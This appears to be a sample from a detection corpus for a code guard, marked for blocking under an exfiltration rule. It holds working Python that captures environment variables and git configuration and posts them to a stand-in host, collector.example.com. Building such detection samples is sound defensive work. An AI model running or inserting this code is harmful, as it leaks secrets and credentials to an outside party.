# pyguard-corpus: verdict=block category=exfil rules=PG601
# what: captures the output of `env` and `git config --list` and posts it with http.client
import http.client
import subprocess

env_dump = subprocess.run(["env"], capture_output=True, text=True).stdout
git_config = subprocess.run(["git", "config", "--list"], capture_output=True, text=True).stdout

conn = http.client.HTTPSConnection("collector.example.com", timeout=10)
conn.request("POST", "/ingest", body=env_dump + git_config, headers={"Content-Type": "text/plain"})
conn.getresponse()
